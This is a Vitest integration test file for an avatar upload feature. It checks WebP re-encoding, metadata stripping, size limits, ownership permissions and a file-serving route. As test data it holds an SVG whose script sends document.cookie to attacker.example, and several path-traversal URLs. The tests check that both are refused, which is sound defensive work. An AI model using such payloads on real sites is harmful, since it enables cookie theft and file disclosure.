import { existsSync } from 'node:fs'
import { readdir, readFile } from 'node:fs/promises'
import path from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { Avatar, User } from '@/payload-types'
import { blankPng, gradientImage, largePng, sha256, uploadForm } from '../../../helpers/images'
import { initPayloadInt, type PayloadInt } from '../../../helpers/initPayloadInt'

type ErrorBody = {
  errors: { name?: string; message: string; data?: { errors?: { path: string; message: string }[] } }[]
}
type RouteContext = { params: Promise<{ filename: string }> }
type RouteHandler = (request: Request, context: RouteContext) => Promise<Response>

const SQUARES = { small: 128, medium: 256, large: 512 } as const
const SIZE_NAMES = Object.keys(SQUARES) as (keyof typeof SQUARES)[]
const PASSWORD = 'correct-horse-battery-1'

const SCRIPTED_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128" viewBox="0 0 128 128">
  <script type="text/javascript">fetch('https://attacker.example/?c=' + document.cookie)</script>
  <circle cx="64" cy="64" r="60" fill="#3366cc" onload="alert(1)"/>
</svg>
`

let ctx: PayloadInt
let avatarsDir: string
let route: { GET: RouteHandler; HEAD: RouteHandler }
const users = {} as Record<'admin' | 'owner' | 'other' | 'moderator', User>
const tokens = {} as Record<keyof typeof users, string>

/** Every file in media/avatars, so a refused upload can be shown to leave nothing behind. */
const avatarFiles = async (): Promise<string[]> =>
  existsSync(avatarsDir) ? (await readdir(avatarsDir)).filter((name) => name !== '.gitkeep').sort() : []

const filesOf = (doc: Avatar): string[] =>
  [doc.filename as string, ...SIZE_NAMES.map((name) => doc.sizes?.[name]?.filename as string)].sort()

const upload = (form: FormData, token?: string) => ctx.rest.post('/avatars', { method: 'POST', body: form, token })

const uploadAvatar = async (token: string, data: Buffer, name: string, type: string, fields: Record<string, unknown> = {}) => {
  const response = await upload(uploadForm({ data, name, type }, fields), token)
  const body = (await response.json()) as { doc: Avatar }
  expect(response.status, JSON.stringify(body)).toBe(201)
  return body.doc
}

/**
 * GET (or HEAD) through the Next route handler src/app/media/avatars/[filename]/route.ts, the way
 * Next calls it: the `[filename]` segment arrives percent-decoded.
 */
const serve = (url: string, init: RequestInit & { method?: 'GET' | 'HEAD' } = {}) => {
  const request = new Request(new URL(url, 'http://localhost:3000'), init)
  const segment = new URL(request.url).pathname.replace(/^\/media\/avatars\//, '')
  const handler = init.method === 'HEAD' ? route.HEAD : route.GET
  return handler(request, { params: Promise.resolve({ filename: decodeURIComponent(segment) }) })
}

const idOf = (value: number | User | null | undefined) => (typeof value === 'object' && value ? value.id : value)

beforeAll(async () => {
  // Local disk (no S3_BUCKET); the avatar limit is left at its default of 5 MB, under the 10 MB
  // global upload limit, so a 6 MB file reaches the avatar check.
  ctx = await initPayloadInt('avatars', { S3_BUCKET: '', RATE_LIMIT_AUTH_PER_IP: '1000' })
  avatarsDir = ctx.config.collections.find((collection) => collection.slug === 'avatars')?.upload.staticDir as string
  expect(avatarsDir).toBe(path.resolve(process.cwd(), 'media', 'avatars'))
  // Imported only now: the route reads the config, which reads the environment set above.
  route = (await import('@/app/media/avatars/[filename]/route')) as typeof route

  // The first account becomes admin; the others get the roles given explicitly.
  const make = async (key: keyof typeof users, roles: User['roles']) => {
    users[key] = await ctx.payload.create({
      collection: 'users',
      data: { email: `${key}@example.com`, password: PASSWORD, roles },
      overrideAccess: true,
    })
    tokens[key] = await ctx.rest.login(`${key}@example.com`, PASSWORD)
  }
  await make('admin', ['admin'])
  await make('owner', ['user'])
  await make('other', ['user'])
  await make('moderator', ['moderator'])
  expect(users.admin.roles).toEqual(['admin'])
  expect(users.moderator.roles).toEqual(['moderator'])
})

afterAll(async () => {
  try {
    // Deleting the documents deletes their files from media/avatars.
    await ctx?.payload.delete({ collection: 'avatars', where: { id: { exists: true } }, overrideAccess: true })
    // The (git-ignored) folder itself stays: another test process may be about to write to it.
  } finally {
    await ctx?.cleanup()
  }
})

describe('a good avatar', () => {
  it('is re-encoded as WebP without its metadata, in squares of 128, 256 and 512, and served at /media/avatars/<file>', async () => {
    const original = await sharp(await gradientImage(900, 600, 'jpeg'))
      .withExif({ IFD0: { Copyright: 'secret-copyright', Artist: 'Jane Secret' } })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>secret-xmp</secret></x:xmpmeta>')
      .jpeg({ quality: 90 })
      .toBuffer()
    const before = await sharp(original).metadata()
    expect(before.exif?.toString('latin1')).toContain('secret-copyright')
    expect(before.xmp?.toString('latin1')).toContain('secret-xmp')

    const doc = await uploadAvatar(tokens.owner, original, 'jane-at-home.jpg', 'image/jpeg')
    expect(doc).toMatchObject({ mimeType: 'image/webp', width: 900, height: 600 })
    expect(idOf(doc.owner)).toBe(users.owner.id)
    // A random name: the uploader's file name is not published.
    expect(doc.filename).toMatch(/^[0-9a-f]{24}\.webp$/)
    expect(doc.url).toBe(`/media/avatars/${doc.filename}`)
    const base = (doc.filename as string).replace(/\.webp$/, '')
    for (const name of SIZE_NAMES) {
      const side = SQUARES[name]
      expect(doc.sizes?.[name], name).toMatchObject({
        width: side,
        height: side,
        mimeType: 'image/webp',
        filename: `${base}-${side}x${side}.webp`,
        url: `/media/avatars/${base}-${side}x${side}.webp`,
      })
    }
    expect(doc.thumbnailURL).toBe(doc.sizes?.small?.url)

    // On disk: the re-encoded original and the three squares, nothing else.
    expect(await avatarFiles()).toEqual(filesOf(doc))

    // Served through the Next route from the URLs the document gives: WebP, square, metadata gone.
    const urls = [doc.url as string, ...SIZE_NAMES.map((name) => doc.sizes?.[name]?.url as string)]
    for (const url of urls) {
      const response = await serve(url)
      expect(response.status, url).toBe(200)
      expect(response.headers.get('content-type'), url).toBe('image/webp')
      expect(response.headers.get('cache-control'), url).toBe('public, max-age=31536000, immutable')
      expect(response.headers.get('x-content-type-options'), url).toBe('nosniff')
      const bytes = Buffer.from(await response.arrayBuffer())
      const filename = decodeURIComponent(url.split('/').pop() as string)
      expect(sha256(bytes), url).toBe(sha256(await readFile(path.join(avatarsDir, filename))))
      const meta = await sharp(bytes).metadata()
      expect(meta.format, url).toBe('webp')
      expect([meta.exif, meta.xmp, meta.iptc], url).toEqual([undefined, undefined, undefined])
      expect(bytes.includes('secret'), url).toBe(false)
      const side = SIZE_NAMES.find((name) => doc.sizes?.[name]?.url === url)
      expect([meta.width, meta.height], url).toEqual(side ? [SQUARES[side], SQUARES[side]] : [900, 600])
    }

    // HEAD answers the same headers with no body.
    const head = await serve(doc.url as string, { method: 'HEAD' })
    expect(head.status).toBe(200)
    expect(head.headers.get('content-type')).toBe('image/webp')
    expect(head.headers.get('content-length')).toBe(String(doc.filesize))
    expect(await head.text()).toBe('')

    // Payload's own file endpoint serves the same file.
    const viaPayload = await ctx.rest.get(`/avatars/file/${doc.filename}`)
    expect(viaPayload.status).toBe(200)

    await ctx.payload.delete({ collection: 'avatars', id: doc.id, overrideAccess: true })
    expect(await avatarFiles()).toEqual([])
  })

  it('makes all three squares from a small original too, and never enlarges the original', async () => {
    const doc = await uploadAvatar(tokens.owner, await gradientImage(200, 150, 'png'), 'small.png', 'image/png')
    expect([doc.mimeType, doc.width, doc.height]).toEqual(['image/webp', 200, 150])
    for (const name of SIZE_NAMES) {
      const meta = await sharp(path.join(avatarsDir, doc.sizes?.[name]?.filename as string)).metadata()
      expect([meta.format, meta.width, meta.height], name).toEqual(['webp', SQUARES[name], SQUARES[name]])
    }
    await ctx.payload.delete({ collection: 'avatars', id: doc.id, overrideAccess: true })
  })

  it('shrinks a large original to fit 1024 x 1024', async () => {
    const doc = await uploadAvatar(tokens.owner, await gradientImage(2000, 1500, 'jpeg'), 'large.jpg', 'image/jpeg')
    expect([doc.width, doc.height]).toEqual([1024, 768])
    const meta = await sharp(path.join(avatarsDir, doc.filename as string)).metadata()
    expect([meta.format, meta.width, meta.height]).toEqual(['webp', 1024, 768])
    await ctx.payload.delete({ collection: 'avatars', id: doc.id, overrideAccess: true })
  })
})

describe('refused uploads store nothing', () => {
  /** Sends `form` (`token: null`: anonymously), and checks that neither a document nor a file was left behind. */
  const refusedUpload = async (form: FormData | string, auth: string | null = tokens.owner) => {
    const token = auth ?? undefined
    const filesBefore = await avatarFiles()
    const docsBefore = (await ctx.payload.count({ collection: 'avatars' })).totalDocs
    const response =
      typeof form === 'string'
        ? await ctx.rest.post('/avatars', { method: 'POST', body: form, headers: { 'Content-Type': 'application/json' }, token })
        : await upload(form, token)
    const body = (await response.json()) as ErrorBody
    expect((await ctx.payload.count({ collection: 'avatars' })).totalDocs).toBe(docsBefore)
    expect(await avatarFiles()).toEqual(filesBefore)
    return { status: response.status, body }
  }

  const expectFileError = (body: ErrorBody, message: RegExp) => {
    expect(body.errors).toHaveLength(1)
    expect(body.errors[0].name).toBe('ValidationError')
    expect(body.errors[0].data?.errors?.[0]?.path).toBe('file')
    expect(body.errors[0].data?.errors?.[0]?.message).toMatch(message)
  }

  it('refuses an SVG carrying a script', async () => {
    const { status, body } = await refusedUpload(uploadForm({ data: SCRIPTED_SVG, name: 'me.svg', type: 'image/svg+xml' }, {}))
    expect(status, JSON.stringify(body)).toBe(400)
    expectFileError(body, /svg.*not accepted/i)
  })

  it('refuses the same SVG renamed to .png and sent as image/png', async () => {
    const { status, body } = await refusedUpload(uploadForm({ data: SCRIPTED_SVG, name: 'me.png', type: 'image/png' }, {}))
    expect(status, JSON.stringify(body)).toBe(400)
    expectFileError(body, /svg.*not accepted/i)
  })

  it('refuses a text file named .png', async () => {
    const { status, body } = await refusedUpload(
      uploadForm({ data: 'just some text, not a picture\n', name: 'me.png', type: 'image/png' }, {}),
    )
    expect(status, JSON.stringify(body)).toBe(400)
    expectFileError(body, /not a readable image/i)
  })

  it('refuses a 6 MB image (over AVATAR_MAX_UPLOAD_MB, 5 by default) with 413', async () => {
    const big = await largePng(6 * 1024 * 1024)
    expect((await sharp(big).metadata()).format).toBe('png')
    // Under the global upload limit: it is the avatar rule that refuses it.
    expect(ctx.config.upload.limits?.fileSize).toBe(10 * 1024 * 1024)
    const { status, body } = await refusedUpload(uploadForm({ data: big, name: 'big.png', type: 'image/png' }, {}))
    expect(status, JSON.stringify(body)).toBe(413)
    expect(body.errors[0].message).toBe('The file is too large: at most 5 MB.')
  })

  it('refuses a 20000 x 20000 image before decoding it', async () => {
    // The builder makes real PNGs: a small one decodes to the right size and pixels.
    const probe = await sharp(blankPng(64, 48)).raw().toBuffer({ resolveWithObject: true })
    expect([probe.info.width, probe.info.height, probe.data.every((byte) => byte === 0)]).toEqual([64, 48, true])

    const huge = blankPng(20_000, 20_000)
    const meta = await sharp(huge, { limitInputPixels: false }).metadata()
    expect([meta.format, meta.width, meta.height]).toEqual(['png', 20_000, 20_000])
    const started = Date.now()
    const { status, body } = await refusedUpload(uploadForm({ data: huge, name: 'huge.png', type: 'image/png' }, {}))
    expect(status, JSON.stringify(body)).toBe(400)
    expectFileError(body, /too large.*20000 x 20000/i)
    // Decoding 400 million pixels takes sharp over 10 s here; reading the header takes nothing.
    expect(Date.now() - started).toBeLessThan(5_000)
  })

  it('refuses an upload that names a URL instead of sending the file', async () => {
    const { status, body } = await refusedUpload(JSON.stringify({ filename: 'remote.png', url: 'https://example.com/remote.png' }))
    expect(status, JSON.stringify(body)).toBe(400)
    expectFileError(body, /not fetched from URLs/i)
  })

  it('refuses an anonymous upload with 403', async () => {
    const { status, body } = await refusedUpload(
      uploadForm({ data: await gradientImage(300, 300, 'png'), name: 'anonymous.png', type: 'image/png' }, {}),
      null,
    )
    expect(status, JSON.stringify(body)).toBe(403)
  })
})

describe('the /media/avatars route', () => {
  it('refuses file names with path separators or .. with 400', async () => {
    for (const url of [
      '/media/avatars/..',
      '/media/avatars/..%2F..%2Fpackage.json',
      '/media/avatars/%2e%2e%2fpackage.json',
      '/media/avatars/a%2Fb.webp',
      '/media/avatars/a%5Cb.webp',
      '/media/avatars/..%5C..%5Cpackage.json',
      '/media/avatars/.gitkeep',
      '/media/avatars/x..webp',
    ]) {
      const response = await serve(url)
      expect(response.status, url).toBe(400)
      expect(response.headers.get('cache-control'), url).toBe('no-store')
    }
  })

  it('answers 404 for a file no avatar has', async () => {
    const response = await serve('/media/avatars/0123456789abcdef01234567.webp')
    expect(response.status).toBe(404)
    expect(response.headers.get('cache-control')).toBe('no-store')
    expect((await serve('/media/avatars/nothing.webp', { method: 'HEAD' })).status).toBe(404)
  })
})

describe('who may replace or delete an avatar', () => {
  const replace = (id: number, token: string, name = 'replacement.png') =>
    gradientImage(400, 400, 'png').then((data) =>
      ctx.rest.patch(`/avatars/${id}`, { method: 'PATCH', body: uploadForm({ data, name, type: 'image/png' }, {}), token }),
    )

  it('refuses another plain user with 403, on PATCH and on DELETE', async () => {
    const doc = await uploadAvatar(tokens.owner, await gradientImage(300, 300, 'png'), 'mine.png', 'image/png')
    const files = await avatarFiles()

    const patched = await replace(doc.id, tokens.other)
    expect(patched.status).toBe(403)
    const patchedOwner = await ctx.rest.patch(`/avatars/${doc.id}`, {
      method: 'PATCH',
      body: JSON.stringify({ owner: users.other.id }),
      headers: { 'Content-Type': 'application/json' },
      token: tokens.other,
    })
    expect(patchedOwner.status).toBe(403)
    const deleted = await ctx.rest.delete(`/avatars/${doc.id}`, { method: 'DELETE', token: tokens.other })
    expect(deleted.status).toBe(403)
    // Nor through a bulk delete: it matches nothing the user may delete.
    const bulk = await ctx.rest.delete(`/avatars?where[id][equals]=${doc.id}`, { method: 'DELETE', token: tokens.other })
    expect((await bulk.json()) as { docs: unknown[] }).toMatchObject({ docs: [] })
    const anonymous = await ctx.rest.delete(`/avatars/${doc.id}`, { method: 'DELETE' })
    expect(anonymous.status).toBe(403)

    const stored = await ctx.payload.findByID({ collection: 'avatars', id: doc.id, depth: 0 })
    expect([stored.filename, stored.owner]).toEqual([doc.filename, users.owner.id])
    expect(await avatarFiles()).toEqual(files)
    await ctx.payload.delete({ collection: 'avatars', id: doc.id, overrideAccess: true })
  })

  it('lets the owner replace the file (new name, old files gone) and delete it', async () => {
    const doc = await uploadAvatar(tokens.owner, await gradientImage(300, 300, 'png'), 'mine.png', 'image/png')
    const response = await replace(doc.id, tokens.owner)
    const body = (await response.json()) as { doc: Avatar }
    expect(response.status, JSON.stringify(body)).toBe(200)
    const replaced = body.doc
    expect(replaced.filename).toMatch(/^[0-9a-f]{24}\.webp$/)
    expect(replaced.filename).not.toBe(doc.filename)
    expect(idOf(replaced.owner)).toBe(users.owner.id)
    expect(await avatarFiles()).toEqual(filesOf(replaced))
    // The old URL is gone for good (it was cached as immutable, so it must never come back).
    expect((await serve(doc.url as string)).status).toBe(404)
    expect((await serve(replaced.url as string)).status).toBe(200)

    const deleted = await ctx.rest.delete(`/avatars/${doc.id}`, { method: 'DELETE', token: tokens.owner })
    expect(deleted.status).toBe(200)
    expect(await avatarFiles()).toEqual([])
    expect((await serve(replaced.url as string)).status).toBe(404)
  })

  it('lets a moderator replace and delete anyone’s avatar', async () => {
    const doc = await uploadAvatar(tokens.owner, await gradientImage(300, 300, 'png'), 'mine.png', 'image/png')
    const response = await replace(doc.id, tokens.moderator)
    const body = (await response.json()) as { doc: Avatar }
    expect(response.status, JSON.stringify(body)).toBe(200)
    // Still the owner's avatar.
    expect(idOf(body.doc.owner)).toBe(users.owner.id)

    const deleted = await ctx.rest.delete(`/avatars/${doc.id}`, { method: 'DELETE', token: tokens.moderator })
    expect(deleted.status).toBe(200)
    expect(await ctx.payload.count({ collection: 'avatars', where: { id: { equals: doc.id } } })).toEqual({ totalDocs: 0 })
    expect(await avatarFiles()).toEqual([])
  })

  it('does not let an uploader make someone else the owner', async () => {
    const doc = await uploadAvatar(tokens.other, await gradientImage(300, 300, 'png'), 'mine.png', 'image/png', {
      owner: users.owner.id,
    })
    expect(idOf(doc.owner)).toBe(users.other.id)

    // A moderator may replace or delete, but not hand the avatar to someone else either.
    for (const token of [tokens.other, tokens.moderator]) {
      const response = await ctx.rest.patch(`/avatars/${doc.id}`, {
        method: 'PATCH',
        body: JSON.stringify({ owner: users.owner.id }),
        headers: { 'Content-Type': 'application/json' },
        token,
      })
      // Refused out loud, naming the field (no longer a silent 200).
      expect(response.status).toBe(403)
      expect(((await response.json()) as { errors: { field?: string }[] }).errors.map((error) => error.field)).toEqual(['owner'])
    }
    const stored = await ctx.payload.findByID({ collection: 'avatars', id: doc.id, depth: 0 })
    expect(stored.owner).toBe(users.other.id)
    await ctx.payload.delete({ collection: 'avatars', id: doc.id, overrideAccess: true })
  })

  it('lets an admin upload an avatar on someone’s behalf', async () => {
    const doc = await uploadAvatar(tokens.admin, await gradientImage(300, 300, 'png'), 'for-them.png', 'image/png', {
      owner: users.owner.id,
    })
    expect(idOf(doc.owner)).toBe(users.owner.id)
    await ctx.payload.delete({ collection: 'avatars', id: doc.id, overrideAccess: true })
  })
})
